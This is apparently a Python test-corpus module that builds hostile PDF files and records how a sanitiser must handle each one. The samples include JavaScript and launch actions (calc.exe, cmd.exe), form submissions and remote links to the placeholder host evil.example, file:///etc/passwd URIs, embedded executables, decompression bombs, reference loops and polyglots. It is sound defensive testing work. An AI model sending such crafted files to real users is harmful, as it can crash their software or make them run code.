"""PDFs that attack whoever opens them, made by this script and found nowhere else.

`HOSTILE` maps a name to how the file is made and to what must become of it: the code of its refusal, "refused" where
any will do, "cleaned" where it must be accepted without what acts, or "any" where both are right.
"""

import base64
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from tests.corpus.writing import TEXT, Objects, document, stream, update, with_streams, written

SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
MB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    make: Callable[[], bytes]
    ends: str


def one(catalog: str = "", page: str = "", **more: Any) -> bytes:
    return written(document(catalog, page, **more))


def link(action: str, **more: Any) -> bytes:
    return one(page=f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A {action} >>]", **more)


def annotation(entries: str, **more: Any) -> bytes:
    return one(page=f"/Annots [<< /Type /Annot /Rect [0 0 99 99] {entries} >>]", **more)


def actions() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Every kind of action, at a link."""
    for name, entries in {
        "launch": "/S /Launch /F (calc.exe)",
        "launch-win": "/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>",
        "submit-form": "/S /SubmitForm /F << /FS /URL /F (https://evil.example/) >>",
        "import-data": "/S /ImportData /F (x.fdf)",
        "reset-form": "/S /ResetForm",
        "go-to-remote": "/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit]",
        "go-to-embedded": "/S /GoToE /T << /R /C /N (x.pdf) >>",
        "thread": "/S /Thread /F (x.pdf) /D 0",
        "rendition": "/S /Rendition /OP 0 /JS (app.alert\\(1\\))",
        "movie": "/S /Movie /Operation /Play",
        "sound": "/S /Sound /Sound 10 0 R",
        "hide": "/S /Hide /T (field)",
        "set-layers": "/S /SetOCGState /State [/ON]",
        "transition": "/S /Trans /Trans << /S /Wipe >>",
        "rich-media-execute": "/S /RichMediaExecute /TA 3 0 R /CMD << /C (run) >>",
        "three-d-view": "/S /GoTo3DView /TA 3 0 R /V /F",
        "uri-javascript": "/S /URI /URI (javascript:alert\\(1\\))",
        "uri-file": "/S /URI /URI (file:///etc/passwd)",
        "uri-smb": "/S /URI /URI (smb://evil.example/share)",
        "uri-data": "/S /URI /URI (data:text/html,<script>alert\\(1\\)</script>)",
        "uri-newline": "/S /URI /URI (https://good.example\\njavascript:alert\\(1\\))",
        "uri-wide": "/S /URI /URI <FEFF006A006100760061003A>",
        "named-print": "/S /Named /N /Print",
        "unknown-action": "/S /DoWhatever /X (1)",
        "javascript-by-hex-name": "/S /Java#53cript /JS (app.alert\\(1\\))",
        "javascript-in-stream": "/S /JavaScript /JS 10 0 R",
    }.items():
        yield name, lambda entries=entries: link(f"<< {entries} >>", _10=stream("app.alert(1)", "/R 8000"))  # type: ignore[misc]


def bomb(times: int, size: int) -> bytes:
    data = bytes(size)
    for _time in range(times):
        data = zlib.compress(data, 9)
    return data


def flate_bomb() -> bytes:
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(MB)) for _part in range(1000)) + packer.flush()
    return contents(data, "/FlateDecode")


def double_bomb(times: int) -> bytes:
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(16 * MB)) for _part in range(64)) + packer.flush()
    for _time in range(times - 1):
        data = zlib.compress(data, 9)
    return contents(data, "[" + "/FlateDecode " * times + "]")


def contents(data: bytes, filters: str, extra: str = "") -> bytes:
    objects = document()
    return written(objects | {4: stream(data, f"/Filter {filters} {extra}")})


def lzw_bomb() -> bytes:
    """Codes of ever longer runs: each the one that the reader has just learnt, until the table is full and cleared."""
    bits, width = f"{256:09b}{0:09b}", 9
    for code in range(258, 4094):
        if code + 1 >= 1 << width:
            width += 1
        bits += f"{code:0{width}b}"
    whole = f"{256:09b}" + (bits[9:] + f"{256:012b}") * 60 + f"{257:09b}"
    whole += "0" * (-len(whole) % 8)
    return contents(int(whole, 2).to_bytes(len(whole) // 8), "/LZWDecode")


def many_bombs() -> bytes:
    """Each within the limit, all together far beyond it."""
    data = zlib.compress(bytes(15 * MB), 9)
    objects = document(page="/Extra [" + " ".join(f"{number} 0 R" for number in range(10, 40)) + "]")
    return written(objects | {number: stream(data, "/Filter /FlateDecode") for number in range(10, 40)})


def object_stream_bomb() -> bytes:
    data = zlib.compress(b"1 0 " + b" " * (300 * MB), 9)
    base = document()
    return with_streams({2: base[2], 3: base[3], 4: base[4], 5: base[5]}, {1: base[1]}, pack=data)


def xref_stream_bomb() -> bytes:
    content = b"%PDF-1.7\n"
    start = len(content)
    data = zlib.compress(bytes(400 * MB), 9)
    content += b"9 0 obj\n" + stream(
        data, "/Type /XRef /W [1 4 2] /Size 60000000 /Root 1 0 R /Filter /FlateDecode"
    )
    return content + f"\nendobj\nstartxref\n{start}\n%%EOF\n".encode()


def tree_of_kids(depth: int, width: int) -> bytes:
    """Every node lists the next one `width` times: so many pages as no reader counts."""
    objects = document()
    for level in range(10, 10 + depth):
        kids = f"{level + 1} 0 R " * width if level < 9 + depth else "3 0 R " * width
        objects[level] = f"<< /Type /Pages /Kids [{kids}] /Count {width} >>"
    objects[2] = "<< /Type /Pages /Kids [10 0 R] /Count 1 >>"
    return written(objects)


def pages(count: int) -> bytes:
    numbers = range(10, 10 + count)
    objects = document()
    objects[2] = f"<< /Type /Pages /Kids [{' '.join(f'{n} 0 R' for n in numbers)}] /Count {count} >>"
    return written(
        objects
        | dict.fromkeys(numbers, "<< /Type /Page /Parent 2 0 R /Resources << >> /MediaBox [0 0 9 9] >>")
    )


def many_objects() -> bytes:
    return written(document() | dict.fromkeys(range(10, 200_020), "null"))


def chain_of_next(length: int) -> bytes:
    first, last = 10, 10 + length
    more = {
        number: f"<< /S /GoTo /D [3 0 R /Fit] /Next {number + 1} 0 R >>" for number in range(first, last)
    } | {last: SCRIPT}
    return written(document(page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A 10 0 R >>]") | more)


def outlines(items: dict[int, str], first: int = 11) -> bytes:
    return written(document("/Outlines 10 0 R") | {10: f"<< /First {first} 0 R /Last {first} 0 R >>"} | items)


def shadow(kind: str) -> bytes:
    """A first version that looks harmless, and an update after it."""
    first = one()
    changed: dict[str, Objects] = {
        "script": {1: f"<< /Type /Catalog /Pages 2 0 R /OpenAction {SCRIPT} >>"},
        "content": {4: stream(TEXT.replace("stay as they are", "are others now"))},
        "page": {3: f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA << /O {SCRIPT} >> >>"},
    }
    return update(first, changed[kind])


def hidden_in_earlier_version() -> bytes:
    """The newest version is clean; the script is in the one before."""
    return update(one(f"/OpenAction {SCRIPT}"), {1: "<< /Type /Catalog /Pages 2 0 R >>"})


def signed() -> bytes:
    signature = "<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 9 9] /Contents <00> >>"
    field = "<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /V 11 0 R /Rect [0 0 0 0] /P 3 0 R >>"
    catalog = "/AcroForm << /Fields [10 0 R] /SigFlags 3 >> /Perms << /DocMDP 11 0 R >>"
    return one(catalog, "/Annots [10 0 R]", _10=field, _11=signature)


def encrypted(password: str) -> bytes:
    import io  # noqa: PLC0415

    import pikepdf  # noqa: PLC0415

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(one())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=password, R=4), static_id=True)
    return out.getvalue()


def in_object_stream() -> bytes:
    base = document("/OpenAction 10 0 R /Names << /JavaScript << /Names [(a) 10 0 R] >> >>", _10=SCRIPT)
    plain = {number: base[number] for number in (4,)}
    return with_streams(plain, {number: base[number] for number in (1, 2, 3, 5, 10)})


def deep(opening: str, closing: str, depth: int) -> str:
    return opening * depth + closing * depth


def huge_picture() -> bytes:
    picture = stream(
        bytes(10),
        "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB",
    )
    return drawing(picture)


def drawing(picture: bytes, operators: str = "q 500 0 0 500 50 50 cm /Im1 Do Q") -> bytes:
    objects = document()
    objects[3] = str(objects[3]).replace("/Font", "/XObject << /Im1 10 0 R >> /Font")
    return written(objects | {4: stream(operators), 10: picture})


def endless_drawing() -> bytes:
    """Small to write, endless to draw: a pattern within a form within a form."""
    objects = document()
    objects[3] = str(objects[3]).replace("/Font", "/XObject << /X 10 0 R >> /Font")
    objects[4] = stream("/X Do " * 20)
    for number in range(10, 18):
        inner = f"/Resources << /XObject << /X {number + 1} 0 R >> >>"
        objects[number] = stream("/X Do " * 20, f"/Type /XObject /Subtype /Form /BBox [0 0 500 500] {inner}")
    objects[18] = stream("0 0 500 500 re f " * 10, "/Type /XObject /Subtype /Form /BBox [0 0 500 500]")
    return written(objects)


def form_that_draws_itself() -> bytes:
    inner = "/Resources << /XObject << /Im1 10 0 R >> >>"
    return drawing(stream("/Im1 Do", f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] {inner}"))


def xref_loop() -> bytes:
    content = one()
    start = int(content.rpartition(b"startxref")[2].split()[0])
    return content.replace(b"/Root 1 0 R  >>", f"/Root 1 0 R /Prev {start} >>".encode())


def two_tables_in_a_circle() -> bytes:
    first = one()
    second = update(first, {4: stream(TEXT)})
    start = int(second.rpartition(b"startxref")[2].split()[0])
    return second.replace(b"/Root 1 0 R  >>", f"/Root 1 0 R /Prev {start} >>".encode(), 1)


def used_twice() -> bytes:
    """One object as the names of fonts and as an annotation: what is judged once for its first use is missed."""
    objects = document(page="/Annots [10 0 R]")
    objects[3] = str(objects[3]).replace("/Font << /F1 5 0 R >>", "/Font 10 0 R")
    objects[10] = (
        "<< /F1 5 0 R /Type /Annot /Subtype /Screen /Rect [0 0 9 9] "
        f"/A << /S /Rendition /JS (app.alert\\(1\\)) >> /AA << /PO {SCRIPT} >> >>"
    )
    return written(objects)


def annotation_kept_by_tags() -> bytes:
    """Taken off the page, an annotation is still held by the structure tree."""
    tags = "/StructTreeRoot << /Type /StructTreeRoot /K << /S /Annot /P 1 0 R /K << /Type /OBJR /Obj 10 0 R >> >> >>"
    file = f"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 11 0 R /A {SCRIPT} >>"
    return one(
        tags,
        "/Annots [10 0 R]",
        _10=file,
        _11="<< /Type /Filespec /F (x.exe) /EF << /F 12 0 R >> >>",
        _12=stream("MZ"),
    )


def polyglot(prefix: bytes) -> bytes:
    return prefix + one()


def polyglot_zip() -> bytes:
    """A PDF before, an archive behind; the end mark is still where it must be."""
    return one() + b"PK\x05\x06" + bytes(18)


def html_within() -> bytes:
    return written(document(), header=b"%PDF-1.7\n%<html><script>alert(1)</script><!--\n")


def parameters() -> dict[str, Hostile]:
    made: dict[str, Hostile] = {name: Hostile(make, "cleaned") for name, make in actions()}
    file = "<< /Type /Filespec /F (x.exe) /EF << /F 11 0 R >> >>"
    cleaned: dict[str, Callable[[], bytes]] = {
        "open-action": lambda: one(f"/OpenAction {SCRIPT}"),
        "open-action-launch": lambda: one("/OpenAction << /S /Launch /F (calc.exe) >>"),
        "names-javascript": lambda: one(f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"),
        "catalog-aa": lambda: one(f"/AA << /WC {SCRIPT} /WS {SCRIPT} /DP {SCRIPT} >>"),
        "page-aa": lambda: one(page=f"/AA << /O {SCRIPT} /C {SCRIPT} >>"),
        "embedded-file": lambda: one(
            "/Names << /EmbeddedFiles << /Names [(x) 10 0 R] >> >>", _10=file, _11=stream("MZ")
        ),
        "associated-file": lambda: one("/AF [10 0 R]", _10=file, _11=stream("MZ")),
        "portfolio": lambda: one(
            "/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(x) 10 0 R] >> >>",
            _10=file,
            _11=stream("MZ"),
        ),
        "file-attachment": lambda: annotation(
            "/Subtype /FileAttachment /FS 10 0 R", _10=file, _11=stream("MZ")
        ),
        "sound-annotation": lambda: annotation(
            "/Subtype /Sound /Sound 10 0 R", _10=stream(bytes(9), "/R 8000")
        ),
        "movie-annotation": lambda: annotation("/Subtype /Movie /Movie << /F (x.avi) >>"),
        "screen-annotation": lambda: annotation(f"/Subtype /Screen /AA << /PO {SCRIPT} >>"),
        "rich-media": lambda: annotation("/Subtype /RichMedia /RichMediaContent << /Assets << >> >>"),
        "three-d": lambda: annotation(
            "/Subtype /3D /3DD 10 0 R", _10=stream(bytes(9), "/Type /3D /Subtype /U3D")
        ),
        "widget-keystroke": lambda: one(
            "/AcroForm << /Fields [10 0 R] >>",
            "/Annots [10 0 R]",
            _10=f"<< /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 9 9] /AA << /K {SCRIPT} >> /P 3 0 R >>",
        ),
        "calculation-order": lambda: one(
            "/AcroForm << /Fields [10 0 R] /CO [10 0 R] >>",
            "/Annots [10 0 R]",
            _10=f"<< /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 9 9] /AA << /C {SCRIPT} >> /P 3 0 R >>",
        ),
        "xfa": lambda: one(
            "/AcroForm << /Fields [] /XFA 10 0 R >>", _10=stream("<xdp><script>1</script></xdp>")
        ),
        "outline-script": lambda: outlines({11: f"<< /Title (x) /Parent 10 0 R /A {SCRIPT} >>"}),
        "next-chain": lambda: chain_of_next(5),
        "next-chain-long": lambda: chain_of_next(5000),
        "next-loop": lambda: link("10 0 R", _10="<< /S /GoTo /D [3 0 R /Fit] /Next 10 0 R >>"),
        "next-array": lambda: link(f"<< /S /URI /URI (https://good.example) /Next [{SCRIPT} {SCRIPT}] >>"),
        "uri-base": lambda: one("/URI << /Base (javascript:) >>"),
        "link-pa": lambda: annotation("/Subtype /Link /PA << /S /URI /URI (javascript:1) >>"),
        "external-stream": lambda: one(page="/X 10 0 R", _10=stream("", "/F (\\\\\\\\evil.example\\\\x)")),
        "reference-xobject": lambda: drawing(
            stream("", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (x.pdf) /Page 0 >>")
        ),
        "opi": lambda: drawing(
            stream("", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /OPI << /2.0 << /F (x) >> >>")
        ),
        "requirements": lambda: one("/Requirements [<< /S /EnableJavaScripts >>]"),
        "templates": lambda: one("/Names << /Templates << /Names [(t) 3 0 R] >> >>"),
        "shadow-script": lambda: shadow("script"),
        "shadow-content": lambda: shadow("content"),
        "shadow-page": lambda: shadow("page"),
        "hidden-in-earlier-version": hidden_in_earlier_version,
        "signed": signed,
        "in-object-stream": in_object_stream,
        "used-twice": used_twice,
        "annotation-kept-by-tags": annotation_kept_by_tags,
        "tag-called-javascript": lambda: one(
            "/StructTreeRoot << /K << /S /JavaScript /JS (1) /P 1 0 R >> >>"
        ),
        "odd-trailer": lambda: written(document() | {10: SCRIPT}, trailer="/Evil 10 0 R"),
        "unreachable-script": lambda: one(_10=SCRIPT),
        "xmp-entities": lambda: one(
            "/Metadata 10 0 R",
            _10=stream(
                '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
                "/Type /Metadata /Subtype /XML",
            ),
        ),
        "odd-names-in-info": lambda: written(
            document() | {10: "<< /Title (../../etc/passwd\\000.pdf) /Author (A Person) /Evil (1) >>"},
            trailer="/Info 10 0 R",
        ),
        "html-in-comment": html_within,
        "piece-info": lambda: one(
            "/PieceInfo << /Illustrator << /Private 10 0 R >> >>", _10=stream("secret")
        ),
    }
    made |= {name: Hostile(make, "cleaned") for name, make in cleaned.items()}
    refused: dict[str, tuple[Callable[[], bytes], str]] = {
        "flate-bomb": (flate_bomb, "unpacks_too_far"),
        "double-flate-bomb": (lambda: double_bomb(2), "unpacks_too_far"),
        "triple-flate-bomb": (lambda: double_bomb(3), "unpacks_too_far"),
        "lzw-bomb": (lzw_bomb, "unpacks_too_far"),
        "run-length-bomb": (lambda: contents(b"\x81\x00" * (2 * MB), "/RunLengthDecode"), "unpacks_too_far"),
        "hex-around-bomb": (
            lambda: contents(
                zlib.compress(bytes(250 * MB), 9).hex().encode() + b">", "[/ASCIIHexDecode /FlateDecode]"
            ),
            "unpacks_too_far",
        ),
        "base-85-around-bomb": (
            lambda: contents(
                base64.a85encode(zlib.compress(bytes(250 * MB), 9)) + b"~>", "[/ASCII85Decode /FlateDecode]"
            ),
            "unpacks_too_far",
        ),
        "many-small-bombs": (many_bombs, "unpacks_too_far"),
        "object-stream-bomb": (object_stream_bomb, "refused"),
        "xref-stream-bomb": (xref_stream_bomb, "refused"),
        "filters-of-filters": (lambda: contents(b"x", "[" + "/FlateDecode " * 100 + "]"), "refused"),
        "unknown-filter": (lambda: contents(b"x", "/EvilDecode"), "odd_filters"),
        "crypt-filter": (lambda: contents(b"x", "/Crypt"), "odd_filters"),
        "huge-picture": (huge_picture, "unpacks_too_far"),
        "kids-loop": (
            lambda: written(document() | {2: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
            "loops",
        ),
        "kids-loop-far": (
            lambda: written(
                document()
                | {
                    2: "<< /Type /Pages /Kids [10 0 R] /Count 1 >>",
                    10: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
                }
            ),
            "loops",
        ),
        "kids-doubling": (lambda: tree_of_kids(30, 2), "loops"),
        "pages-too-deep": (lambda: tree_of_kids(300, 1), "too_deep"),
        "outline-next-loop": (
            lambda: outlines(
                {
                    11: "<< /Title (a) /Parent 10 0 R /Next 12 0 R >>",
                    12: "<< /Title (b) /Parent 10 0 R /Next 11 0 R >>",
                }
            ),
            "loops",
        ),
        "outline-first-loop": (
            lambda: outlines({11: "<< /Title (a) /Parent 10 0 R /First 11 0 R >>"}),
            "loops",
        ),
        "name-tree-loop": (lambda: one("/Names << /Dests 10 0 R >>", _10="<< /Kids [10 0 R] >>"), "loops"),
        "number-tree-loop": (lambda: one("/PageLabels 10 0 R", _10="<< /Kids [10 0 R] >>"), "loops"),
        "tags-loop": (
            lambda: one(
                "/StructTreeRoot 10 0 R", _10="<< /K 11 0 R >>", _11="<< /S /P /P 10 0 R /K 11 0 R >>"
            ),
            "loops",
        ),
        "field-loop": (
            lambda: one("/AcroForm << /Fields [10 0 R] >>", _10="<< /T (a) /Kids [10 0 R] >>"),
            "loops",
        ),
        "no-pages": (lambda: written(document() | {2: "<< /Type /Pages /Kids [] /Count 0 >>"}), "no_pages"),
        "pages-missing": (lambda: written(document() | {1: "<< /Type /Catalog >>"}), "damaged"),
        "too-many-pages": (lambda: pages(2001), "too_many_pages"),
        "too-many-objects": (many_objects, "too_many_objects"),
        "deep-arrays": (lambda: one(page="/X " + deep("[", "]", 5000)), "refused"),
        "deep-dictionaries": (lambda: one(page="/X " + deep("<< /A ", ">>", 5000)), "refused"),
        "very-deep-arrays": (lambda: one(page="/X " + deep("[", "]", 1_000_000)), "refused"),
        "encrypted": (lambda: encrypted("secret"), "encrypted"),
        "encrypted-empty-password": (lambda: encrypted(""), "encrypted"),
        "truncated": (lambda: one()[:-200], "cut_off"),
        "truncated-with-end": (lambda: one()[:300] + b"\n%%EOF\n", "damaged"),
        "no-table": (lambda: one().replace(b"xref\n0", b"xxxx\n0"), "damaged"),
        "wrong-start": (lambda: one().replace(b"startxref\n", b"startxref\n9"), "damaged"),
        "start-beyond": (
            lambda: one().rpartition(b"startxref")[0] + b"startxref\n99999999999999999999\n%%EOF\n",
            "damaged",
        ),
        "xref-loop": (xref_loop, "refused"),
        "tables-in-a-circle": (two_tables_in_a_circle, "refused"),
        "empty": (lambda: b"", "not_pdf"),
        "zeros": (lambda: bytes(1000), "not_pdf"),
        "only-marks": (lambda: b"%PDF-1.7\n%%EOF\n", "damaged"),
        "gif-before": (lambda: polyglot(b"GIF89a"), "not_pdf"),
        "zip-before": (lambda: polyglot(b"PK\x03\x04"), "not_pdf"),
        "html-before": (lambda: polyglot(b"<html><script>1</script>"), "not_pdf"),
        "shell-before": (lambda: polyglot(b"#!/bin/sh\nexit\n"), "not_pdf"),
        "postscript": (lambda: b"%!PS-Adobe-3.0\n(x) run\n%%EOF\n", "not_pdf"),
        "larger-than-allowed": (lambda: one() + b"%" * (25 * MB) + b"\n%%EOF\n", "too_large"),
        "endless-drawing": (endless_drawing, "refused"),
        "page-without-extent": (
            lambda: written(document() | {3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e30 1e30] >>"}),
            "any",
        ),
        "form-that-draws-itself": (form_that_draws_itself, "any"),
        "length-too-large": (lambda: written(document() | {4: stream(TEXT, length=99999999)}), "any"),
        "length-negative": (lambda: written(document() | {4: stream(TEXT, length=-1)}), "any"),
        "length-to-itself": (
            lambda: written(document() | {4: b"<< /Length 4 0 R >>\nstream\nx\nendstream"}),
            "any",
        ),
        "huge-size": (lambda: written(document(), trailer="/Size 2147483647"), "any"),
        "archive-behind": (polyglot_zip, "any"),
        "operators-million": (lambda: written(document() | {4: stream(b"q Q " * 2_000_000)}), "any"),
        "operators-deep": (lambda: written(document() | {4: stream(b"q " * 1_000_000)}), "any"),
        "content-garbage": (lambda: written(document() | {4: stream(bytes(range(256)) * 4000)}), "any"),
        "catalog-is-a-page": (lambda: written(document(), root=3), "refused"),
        "catalog-is-missing": (lambda: written(document(), root=77), "refused"),
        "object-that-is-itself": (lambda: one(page="/X 10 0 R", _10="10 0 R"), "any"),
        "many-annotations": (
            lambda: one(
                page="/Annots [" + f"<< /Subtype /Link /Rect [0 0 9 9] /A {SCRIPT} >> " * 20_000 + "]"
            ),
            "cleaned",
        ),
    }
    return made | {name: Hostile(make, ends) for name, (make, ends) in refused.items()}


HOSTILE = parameters()
